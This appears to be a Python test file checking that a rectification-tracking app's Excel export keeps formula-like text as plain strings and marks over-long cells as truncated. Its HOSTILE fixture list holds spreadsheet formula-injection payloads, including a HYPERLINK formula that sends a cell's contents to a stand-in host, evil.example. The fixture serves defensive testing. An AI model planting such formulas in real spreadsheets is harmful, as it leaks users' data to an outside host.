"""The office's Excel ledgers hold what units typed as text: nothing in them runs as a formula, and a
cell too long for Excel says that it was cut."""
from __future__ import annotations

import io

from openpyxl import load_workbook
from support.pages import Pages
from support.rounds import complete, publish_round

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")', "+1+2", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]
CELL_LIMIT = 32_767  # the most characters an Excel cell holds


def _rectify(ctx, d, measures: list[str]):
    round_id, commons = publish_round(ctx, d)
    unit = d.units[2]
    liaison = f"{d.codes[unit].lower()}_liaison"
    complete(ctx, liaison, "self_check", {"items": [
        {"common_problem_id": c, "applicable": True, "problems_found": 1, "findings": "发现"} for c in commons]},
        unit_id=unit)
    complete(ctx, liaison, "rectify", {"items": [
        {"common_problem_id": commons[0], "status": "ongoing", "institutions": [],
         "measures": [{"description": m, "deadline": "2027-01-31"} for m in measures]},
        {"common_problem_id": commons[1], "status": "done", "institutions": [{"title": "-制度"}],
         "measures": [{"description": "重新招标", "deadline": "2027-01-31"}]}]}, unit_id=unit)
    return round_id


def _cells(content: bytes):
    ws = load_workbook(io.BytesIO(content)).active
    return ws, {ws.cell(1, i).value: i for i in range(1, ws.max_column + 1)}


def test_text_that_looks_like_a_formula_is_exported_as_text(ctx, api, district, client):
    round_id = _rectify(ctx, district, HOSTILE)
    r = api.as_("office1").get("/lists/rectifications", query_string={"round_id": round_id, "format": "xlsx"})
    assert r.status_code == 200
    ws, columns = _cells(r.data)
    cells = [ws.cell(row, columns["整改措施"]) for row in range(2, ws.max_row + 1)]
    hostile = next(c for c in cells if "HYPERLINK" in str(c.value))
    assert hostile.data_type == "s" and hostile.quotePrefix, "a formula-like measure must stay text"
    assert hostile.value.startswith("=HYPERLINK(")  # shown exactly as typed
    institutions = [ws.cell(row, columns["完善制度"]) for row in range(2, ws.max_row + 1)]
    assert any(c.value == "-制度" and c.data_type == "s" for c in institutions)
    # every cell of the download: no formula anywhere, and the numbers are still numbers
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    evidence = [ws.cell(row, columns["佐证材料数"]).value for row in range(2, ws.max_row + 1)]
    assert evidence and all(isinstance(v, int) for v in evidence)
    # the dashboard's download for the logged-in page user is the same workbook
    pages = Pages(client)
    pages.login("office1")
    page = pages.get(f"/dashboard/lists/rectifications.xlsx?round_id={round_id}")
    assert page.status_code == 200
    ws, columns = _cells(page.data)
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def test_a_cell_too_long_for_excel_says_it_was_cut(ctx, api, district):
    measures = [f"第{i}项措施：" + "整" * 1990 for i in range(20)]  # 20 measures of 2,000 characters
    round_id = _rectify(ctx, district, measures)
    r = api.as_("office1").get("/lists/rectifications", query_string={"round_id": round_id, "format": "xlsx"})
    ws, columns = _cells(r.data)
    longest = max((ws.cell(row, columns["整改措施"]).value or "" for row in range(2, ws.max_row + 1)), key=len)
    assert len(longest) <= CELL_LIMIT
    assert longest.endswith("【超出 Excel 单元格长度，以下已截断】"), longest[-40:]
    # the JSON list still carries the whole text
    rows = api.as_("office1").get("/lists/rectifications", query_string={"round_id": round_id}).get_json()["items"]
    assert max(len(row["measures"]) for row in rows) > CELL_LIMIT
